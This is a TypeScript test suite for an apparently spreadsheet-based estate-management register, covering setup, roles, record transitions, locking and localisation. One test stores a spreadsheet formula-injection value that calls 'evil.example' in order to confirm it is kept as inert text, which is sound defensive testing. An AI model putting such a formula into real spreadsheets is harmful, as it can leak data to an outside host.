// End to end through dist/Code.js: setup, record writes, transitions, roles, versions and call counts.
import { as, cells, CLERK, complaint, formulas, MANAGER, ok, rpc, Result, setUpBook, sheetNamed, snapshot, SUPERVISOR, violation, STRANGER, SECURITY } from './book';
import { createHost } from '../../src/local/host';
import { CODE } from './book';

const NOW = '2026-11-25T09:00:00+08:00';

describe('setupWorkbook', () => {
  const host = setUpBook();

  it('creates every register tab, Settings and the notices log, headed in zh-Hans', () => {
    const names = host.workbook.sheets.map((s) => s.name);
    for (const tab of ['重点户', '重点户异动表', '走访记录', '投诉', '违章', '求助报事', '临时出入卡', '值班记录', '值班安排表', '人员权限', '设置', '文书记录']) {
      expect(names).toContain(tab);
    }
    expect(cells(host, '投诉')[0]).toEqual(expect.arrayContaining(['编号', '受理时间', '投诉人', '投诉事项', '类别', '状态']));
  });

  it('makes the user who ran it the first manager', () => {
    const roles = cells(host, '人员权限');
    const row = roles.find((r) => r.includes(MANAGER));
    expect(row).toBeDefined();
    expect(row).toContain('管理处经理');
  });

  it('freezes the header row, adds dropdowns, date formats, overdue colours and protection', () => {
    const sheet = sheetNamed(host, '投诉');
    expect(sheet.frozenRows).toBe(1);
    const classCol = (cells(host, '投诉')[0] as string[]).indexOf('类别');
    const rule = sheet.validations[5]?.[classCol];
    expect(rule).toBeDefined();
    expect(JSON.stringify(rule)).toContain('重要');
    const dueCol = (cells(host, '投诉')[0] as string[]).indexOf('受理时间');
    expect(JSON.stringify(sheet.styles[3]?.[dueCol] ?? {})).toMatch(/yyyy-mm-dd hh:mm/);
    expect(sheet.conditionalRules.length).toBeGreaterThanOrEqual(2);
    expect(sheet.protections.length).toBeGreaterThan(0);
    expect(sheetNamed(host, '值班记录').protections.some((p) => p.kind === 'SHEET' || (p as { type?: string }).type === 'SHEET')).toBe(true);
  });

  it('changes no data when run again', () => {
    ok(rpc(host, 'createRecord', 'complaints', complaint()));
    const before = snapshot(host);
    const again = ok(rpc(host, 'setupWorkbook', 'en'));
    expect(again.created).toEqual([]);
    expect(snapshot(host)).toBe(before);
  });

  it('adds a column a user deleted back in its reading place, without changing any value', () => {
    const sheet = sheetNamed(host, '投诉');
    const col = (sheet.rows[0] as string[]).indexOf('回访意见');
    for (const r of sheet.rows) if (r) r.splice(col, 1);
    const byHeader = () => {
      const [head, ...rows] = sheet.rows as unknown[][];
      return rows.map((r) => Object.fromEntries((head as string[]).map((h, i) => [h, r[i] ?? null])));
    };
    const before = byHeader();
    const r = ok(rpc(host, 'setupWorkbook'));
    expect(r.addedColumns).toEqual({ 投诉: ['feedback'] });
    const header = sheet.rows[0] as string[];
    expect(header.indexOf('回访意见')).toBe(header.indexOf('处理结果') + 1);
    expect(byHeader()).toEqual(before.map((row) => ({ ...row, 回访意见: null })));
  });
});

describe('columns are found by key, in any language and any order', () => {
  it('writes to the right cells after a user reorders columns and switches headers to English', () => {
    const host = setUpBook();
    const sheet = sheetNamed(host, '投诉');
    const header = sheet.rows[0] as string[];
    const a = header.indexOf('投诉人');
    const b = header.indexOf('投诉事项');
    // Swap two whole columns and rename a header to its English label.
    for (const r of sheet.rows) if (r) [r[a], r[b]] = [r[b], r[a]];
    header[header.indexOf('类别')] = 'Class';
    const r = ok(rpc(host, 'createRecord', 'complaints', complaint({ complainant: '周先生', subject: '电梯异响' })));
    const row = sheet.rows.find((x) => x && x.includes(r.id as string))!;
    expect(row[(sheet.rows[0] as string[]).indexOf('投诉人')]).toBe('周先生');
    expect(row[(sheet.rows[0] as string[]).indexOf('投诉事项')]).toBe('电梯异响');
    expect(row[(sheet.rows[0] as string[]).indexOf('Class')]).toBe('轻微');
    const found = ok(rpc(host, 'getRecord', 'complaints', r.id)).record as { fields: Record<string, unknown> };
    expect(found.fields).toMatchObject({ complainant: '周先生', subject: '电梯异响', class: 'minor' });
  });
});

describe('createRecord', () => {
  const host = setUpBook();

  it('assigns C-2026-0001 style ids, stamps who and when, and starts at received', () => {
    const r = ok(as(host, CLERK, () => rpc(host, 'createRecord', 'complaints', complaint())));
    expect(r.id).toBe('C-2026-0001');
    expect(r.version).toBe(1);
    expect(r.record).toMatchObject({ status: 'received', created_by: CLERK, updated_by: CLERK, created_at: NOW, received_at: '2026-11-25T08:30:00+08:00' });
  });

  it('never reuses an id, even after the last row is deleted', () => {
    const second = ok(rpc(host, 'createRecord', 'complaints', complaint()));
    expect(second.id).toBe('C-2026-0002');
    const sheet = sheetNamed(host, '投诉');
    sheet.rows.splice(sheet.rows.findIndex((r) => r && r.includes('C-2026-0002')), 1);
    expect(ok(rpc(host, 'createRecord', 'complaints', complaint())).id).toBe('C-2026-0003');
  });

  it('refuses a received time in the future, writing nothing', () => {
    const before = snapshot(host);
    const r = rpc(host, 'createRecord', 'complaints', complaint({ received_at: '2026-11-25T09:00:01+08:00' }));
    expect(r).toMatchObject({ ok: false, code: 'invalid' });
    expect(r.fieldErrors?.received_at).toBe('不能晚于当前时间');
    expect(snapshot(host)).toBe(before);
  });

  it('stores formula-looking text as inert text that reads back exactly as typed', () => {
    const text = '=IMPORTXML("http://evil.example","//a")';
    const r = ok(rpc(host, 'createRecord', 'complaints', complaint({ subject: text, details: '+1-2', complainant: '@王' })));
    expect(formulas(host)).toEqual([]);
    const got = ok(rpc(host, 'getRecord', 'complaints', r.id)).record as { fields: Record<string, unknown> };
    expect(got.fields).toMatchObject({ subject: text, details: '+1-2', complainant: '@王' });
  });

  it('stores ID numbers masked, keeping the first and last four', () => {
    const r = ok(rpc(host, 'createRecord', 'households', { unit: '1-101', occupant: '刘桂英', categories: ['elderly_alone'], id_number: '110101194501011234' }));
    expect(JSON.stringify(cells(host, '重点户'))).not.toContain('110101194501011234');
    expect((r.record as Record<string, unknown>).id_number).toBe('1101**********1234');
  });

  it('refuses passes valid for more than 3 months', () => {
    const r = rpc(host, 'createRecord', 'passes', { holder: '何阿姨', role: 'nanny', unit: '3-1-502', issued_on: '2026-11-30', expires_on: '2027-03-01' });
    expect(r).toMatchObject({ ok: false, code: 'invalid' });
    expect(r.fieldErrors?.expires_on).toContain('3');
    ok(rpc(host, 'createRecord', 'passes', { holder: '何阿姨', role: 'nanny', unit: '3-1-502', issued_on: '2026-11-30', expires_on: '2027-02-28' }));
  });

  it('refuses someone who is not in the Roles tab', () => {
    const r = as(host, STRANGER, () => rpc(host, 'createRecord', 'complaints', complaint()));
    expect(r).toMatchObject({ ok: false, code: 'forbidden' });
  });

  it('keeps one Roles row per person', () => {
    const r = rpc(host, 'createRecord', 'roles', { email: 'Clerk@Estate.example', roles: ['manager'] });
    expect(r).toMatchObject({ ok: false, code: 'invalid', fieldErrors: { email: '已有这条记录' } });
  });

  it('lets only the manager change roles', () => {
    const r = as(host, SUPERVISOR, () => rpc(host, 'createRecord', 'roles', { email: 'x@estate.example', roles: ['manager'] }));
    expect(r).toMatchObject({ ok: false, code: 'forbidden' });
  });
});

describe('updateRecord', () => {
  it('refuses a stale version with conflict and keeps the newer edit', () => {
    const host = setUpBook();
    const c = ok(rpc(host, 'createRecord', 'complaints', complaint()));
    ok(rpc(host, 'updateRecord', 'complaints', c.id, 1, { details: '第一次修改' }));
    const stale = rpc(host, 'updateRecord', 'complaints', c.id, 1, { details: '过期的修改' });
    expect(stale).toMatchObject({ ok: false, code: 'conflict' });
    const rec = ok(rpc(host, 'getRecord', 'complaints', c.id)).record as { version: number; fields: Record<string, unknown> };
    expect(rec.version).toBe(2);
    expect(rec.fields.details).toBe('第一次修改');
  });

  it('logs household changes before → after, never the sensitive notes', () => {
    const host = setUpBook();
    const h = ok(rpc(host, 'createRecord', 'households', { unit: '2-3-801', occupant: '孙大爷', categories: ['empty_nest'], notes: 'CANARY-高血压' }));
    ok(rpc(host, 'updateRecord', 'households', h.id, 1, { categories: ['empty_nest', 'veteran'], phone: '13511112222', notes: 'CANARY-糖尿病' }));
    const log = cells(host, '重点户异动表');
    const text = JSON.stringify(log);
    expect(text).not.toContain('CANARY');
    const changes = log.slice(1).map((r) => r[(log[0] as string[]).indexOf('异动')]);
    expect(changes).toEqual(['新增重点户', '增加类别', '信息变更']);
    expect(text).toContain('空巢老人、退役军人');
  });
});

describe('transitions', () => {
  const fresh = () => setUpBook();
  const step = (host: ReturnType<typeof setUpBook>, register: string, rec: Result, action: string, fields: Record<string, unknown> = {}, user = MANAGER) => {
    const r = as(host, user, () => rpc(host, 'transition', register, rec.id, rec.version, action, fields));
    if (r.ok) rec.version = r.version;
    return r;
  };

  it('walks a complaint through its whole lifecycle', () => {
    const host = fresh();
    const c = ok(rpc(host, 'createRecord', 'complaints', complaint({ class: 'important' })));
    for (const [action, fields, status] of [
      ['dispatch', { department: '工程部' }, 'dispatched'],
      ['hand_over', {}, 'dispatched'],
      ['start', {}, 'in_progress'],
      ['resolve', { resolution: '已更换灯泡' }, 'resolved'],
      ['notify', {}, 'notified'],
      ['visit', { feedback: '满意' }, 'visited'],
      ['close', {}, 'closed'],
    ] as const) {
      const r = ok(step(host, 'complaints', c, action, fields));
      expect((r.record as Record<string, unknown>).status).toBe(status);
    }
  });

  it('refuses an action that does not fit the current state', () => {
    const host = fresh();
    const c = ok(rpc(host, 'createRecord', 'complaints', complaint()));
    expect(step(host, 'complaints', c, 'visit')).toMatchObject({ ok: false, code: 'precondition' });
  });

  it('requires rectify_by to order rectification', () => {
    const host = fresh();
    const v = ok(rpc(host, 'createRecord', 'violations', violation({ category: 'decoration' })));
    expect(step(host, 'violations', v, 'order_rectification')).toMatchObject({ ok: false, code: 'invalid', fieldErrors: { rectify_by: '必填' } });
    ok(step(host, 'violations', v, 'order_rectification', { rectify_by: '2026-12-01T17:00:00+08:00' }));
  });

  it('cuts supply only for fees, and only 3 days after the written notice', () => {
    const host = fresh();
    const notFees = ok(rpc(host, 'createRecord', 'violations', violation({ category: 'decoration' })));
    expect(step(host, 'violations', notFees, 'serve_cut_notice', { cut_planned_at: '2026-11-29T09:00:00+08:00' })).toMatchObject({ ok: false, code: 'precondition' });
    const v = ok(rpc(host, 'createRecord', 'violations', violation()));
    ok(step(host, 'violations', v, 'educate'));
    expect(step(host, 'violations', v, 'serve_cut_notice', { cut_planned_at: '2026-11-28T08:59:59+08:00' })).toMatchObject({ ok: false, code: 'precondition' });
    ok(step(host, 'violations', v, 'serve_cut_notice', { cut_planned_at: '2026-11-28T09:00:00+08:00' }));
    host.setNow('2026-11-28T08:59:00+08:00');
    expect(step(host, 'violations', v, 'cut')).toMatchObject({ ok: false, code: 'precondition' });
    host.setNow('2026-11-28T09:00:00+08:00');
    const cut = ok(step(host, 'violations', v, 'cut'));
    expect(cut.record).toMatchObject({ step: 'cut', decided_by: MANAGER, cut_at: '2026-11-28T09:00:00+08:00' });
    ok(step(host, 'violations', v, 'restore'));
  });

  it('refuses every penalty by a clerk or a supervisor, changing nothing', () => {
    const host = fresh();
    for (const action of ['compensate', 'serve_cut_notice', 'publicize', 'take_legal_action']) {
      for (const user of [CLERK, SUPERVISOR]) {
        const v = ok(rpc(host, 'createRecord', 'violations', violation()));
        const before = snapshot(host);
        const fields = { serve_cut_notice: { cut_planned_at: '2026-12-01T09:00:00+08:00' }, publicize: { committee_agreed_by: '业委会主任', committee_agreed_on: '2026-11-24' } }[action] ?? {};
        const r = step(host, 'violations', v, action, fields, user);
        expect(r).toMatchObject({ ok: false, code: 'forbidden' });
        expect(snapshot(host)).toBe(before);
      }
    }
  });

  it('leaves a major violation’s decisions to the manager', () => {
    const host = fresh();
    const v = ok(rpc(host, 'createRecord', 'violations', violation({ category: 'decoration', severity: 'major' })));
    expect(step(host, 'violations', v, 'order_rectification', { rectify_by: '2026-12-01T17:00:00+08:00' }, SUPERVISOR)).toMatchObject({ ok: false, code: 'forbidden' });
    ok(step(host, 'violations', v, 'educate', {}, CLERK));
  });

  it('stamps request replies and pass returns with the action time', () => {
    const host = fresh();
    const r = ok(rpc(host, 'createRecord', 'requests', { received_at: '2026-11-25T08:58:00+08:00', type: 'repair', details: '水管漏水' }));
    const first = ok(step(host, 'requests', r, 'first_reply', { at: '2026-11-25T08:59:00+08:00', handler: '李晓梅' }, CLERK));
    expect(first.record).toMatchObject({ first_reply_at: '2026-11-25T08:59:00+08:00', handler: '李晓梅' });
    expect(step(host, 'requests', r, 'reply', { at: '2026-11-26T08:59:00+08:00' }, CLERK)).toMatchObject({ ok: false, fieldErrors: { at: '不能晚于当前时间' } });
    const p = ok(rpc(host, 'createRecord', 'passes', { holder: '吴老师', role: 'tutor', unit: '5-2-1101', issued_on: '2026-11-01', expires_on: '2027-01-31' }));
    expect(ok(step(host, 'passes', p, 'return', {}, CLERK)).record).toMatchObject({ returned_on: '2026-11-25' });
    expect(step(host, 'passes', p, 'return', {}, CLERK)).toMatchObject({ ok: false, code: 'precondition' });
  });

  it('records household deactivation in the change log', () => {
    const host = fresh();
    const h = ok(rpc(host, 'createRecord', 'households', { unit: '1-101', occupant: '刘桂英', categories: ['elderly_alone'] }));
    ok(step(host, 'households', h, 'deactivate', {}, CLERK));
    const log = cells(host, '重点户异动表');
    expect(log.length).toBe(3);
    expect(JSON.stringify(log[2])).toContain('撤销重点户');
  });

  it('lets security record patrol observations but not complaints', () => {
    const host = fresh();
    ok(as(host, SECURITY, () => rpc(host, 'createRecord', 'violations', violation({ category: 'security' }))));
    expect(as(host, SECURITY, () => rpc(host, 'createRecord', 'complaints', complaint()))).toMatchObject({ ok: false, code: 'forbidden' });
  });
});

describe('concurrency', () => {
  it('gives 20 interleaved creates from two users 20 rows with 20 distinct ids', () => {
    const a = setUpBook();
    const b = createHost({ codePath: CODE, workbook: a.workbook, user: CLERK, now: NOW });
    const ids: string[] = [];
    for (let i = 0; i < 20; i++) {
      const host = i % 2 ? b : a;
      ids.push(ok(rpc(host, 'createRecord', 'complaints', complaint({ subject: `第${i}件` }))).id as string);
    }
    expect(new Set(ids).size).toBe(20);
    expect(cells(a, '投诉').slice(1).filter((r) => r.some((c) => String(c).startsWith('C-'))).length).toBe(20);
  });

  it('answers busy, writing nothing, while another user holds the document lock', () => {
    const a = setUpBook();
    const b = createHost({ codePath: CODE, workbook: a.workbook, user: CLERK, now: NOW });
    const before = snapshot(a);
    // The other user's write is in progress: their script holds the document lock.
    const holding = require('node:vm').runInContext('var l = LockService.getDocumentLock() || LockService.getScriptLock(); l.tryLock(1000)', b.context);
    expect(holding).toBe(true);
    expect(rpc(a, 'createRecord', 'complaints', complaint())).toMatchObject({ ok: false, code: 'busy' });
    expect(snapshot(a)).toBe(before);
    require('node:vm').runInContext('l.releaseLock()', b.context);
    ok(rpc(a, 'createRecord', 'complaints', complaint()));
  });
});

describe('call counts', () => {
  function callsFor(rows: number): number {
    const host = setUpBook();
    const sheet = sheetNamed(host, '投诉');
    const header = sheet.rows[0] as string[];
    const template = ok(rpc(host, 'createRecord', 'complaints', complaint()));
    const row = sheet.rows[1];
    for (let i = 2; i <= rows; i++) {
      const copy = [...row];
      copy[header.indexOf('编号')] = `C-2025-${String(i).padStart(5, '0')}`;
      sheet.rows.push(copy);
    }
    void template;
    // A real sheet holding 10,000 rows has at least that many rows.
    sheet.maxRows = Math.max(sheet.maxRows, rows + 1000);
    host.resetCounters();
    ok(rpc(host, 'createRecord', 'complaints', complaint()));
    return host.spreadsheetCalls();
  }

  it('makes the same number of Spreadsheet calls on 10 rows and on 10,000 rows', () => {
    const small = callsFor(10);
    const large = callsFor(10_000);
    expect(small).toBe(large);
    // 21: the 变更记录 row is one append of its own (the web app's workbook id is recorded by the sidebar and 自检, not by each write).
    expect(small).toBeLessThanOrEqual(21);
  });
});

describe('languages', () => {
  it('sets up in zh-Hant, and keeps working when Settings switch the office to English', () => {
    const host = setUpBook({ lang: 'zh-Hant' });
    const names = host.workbook.sheets.map((s) => s.name);
    expect(names).toEqual(expect.arrayContaining(['投訴', '違章', '設定', '值班記錄']));
    expect(cells(host, '投訴')[0]).toEqual(expect.arrayContaining(['受理時間', '投訴人']));
    ok(rpc(host, 'createRecord', 'complaints', complaint()));
    expect(cells(host, '投訴')[1]).toContain('輕微');
    sheetNamed(host, '設定').rows.find((r) => r && r[0] === 'lang')![1] = 'en';
    const r = rpc(host, 'createRecord', 'complaints', complaint({ received_at: 'soon' }));
    expect(r.fieldErrors?.received_at).toBe('Not a valid date and time');
    const second = ok(rpc(host, 'createRecord', 'complaints', complaint({ class: 'major' })));
    expect(cells(host, '投訴').at(-1)).toContain('Major');
    const both = ok(rpc(host, 'findRecords', 'complaints', {})).records as { id: string; fields: { class: string } }[];
    expect(both.map((x) => [x.id, x.fields.class])).toEqual([
      [second.id, 'major'],
      ['C-2026-0001', 'minor'],
    ]);
    // Running setup again brings the dropdowns into the new language, and changes no data.
    const before = JSON.stringify(cells(host, '投訴').slice(1));
    ok(rpc(host, 'setupWorkbook'));
    const classCol = (cells(host, '投訴')[0] as string[]).indexOf('類別');
    expect(JSON.stringify(sheetNamed(host, '投訴').validations[5]?.[classCol])).toContain('Major');
    expect(JSON.stringify(cells(host, '投訴').slice(1))).toBe(before);
  });
});
